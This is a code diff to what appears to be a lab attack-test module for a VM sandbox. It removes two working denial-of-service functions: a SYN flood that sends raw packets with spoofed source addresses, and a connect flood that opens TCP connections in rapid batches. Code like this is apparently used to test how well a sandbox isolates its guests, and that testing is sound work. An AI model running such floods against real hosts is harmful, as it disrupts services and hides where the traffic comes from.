@@ -8,11 +8,9 @@ import ctypes
 import errno
 import os
 import random
-import select
 import socket
 import struct
 import subprocess
-import time
 from typing import TYPE_CHECKING, Any, Final
 
 from tests.lab.attacks.guest_port import asking, mount, port_path
@@ -266,42 +264,6 @@ def vsock(_state: State, *, ports: int) -> dict[str, Any]:
             if number == errno.EAFNOSUPPORT:  # a kernel without such sockets fails in the same way for every port
                 break
     return {"said": said}
-
-
-def syn_flood(_state: State, *, host: str, port: int, count: int) -> dict[str, Any]:
-    """Open half-open connections from spoofed sources, for at most 20 s."""
-    target = socket.gethostbyname(host)
-    sent = 0
-    deadline = time.monotonic() + 20
-    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 255) as sock:
-        for number in range(count):
-            if time.monotonic() > deadline:
-                break
-            source = f"198.18.{1 + number // 60000}.{1 + number % 200}"
-            with contextlib.suppress(OSError):
-                sock.sendto(_syn(source, 1024 + number % 60000, target, port), (target, 0))
-                sent += 1
-    time.sleep(1)
-    return {"sent": sent}
-
-
-def connect_flood(_state: State, *, host: str, port: int, count: int, at_once: int) -> dict[str, Any]:
-    """Open connections as fast as possible, in batches, and close each once it is open."""
-    target = (socket.gethostbyname(host), port)
-    codes: dict[str, int] = {}
-    began = time.monotonic()
-    for start in range(0, count, at_once):
-        socks = [socket.socket() for _ in range(min(at_once, count - start))]
-        for sock in socks:
-            sock.setblocking(False)  # noqa: FBT003
-            sock.connect_ex(target)
-        deadline = time.monotonic() + 20
-        for sock in socks:
-            done = select.select([], [sock], [], max(0.0, deadline - time.monotonic()))[1]
-            name = _name_of(sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) if done else errno.ETIMEDOUT)
-            codes[name] = codes.get(name, 0) + 1
-            sock.close()
-    return {"codes": codes, "seconds": time.monotonic() - began}
 
 
 # ---------------------------------------------------------------------------------------------------------- the relay
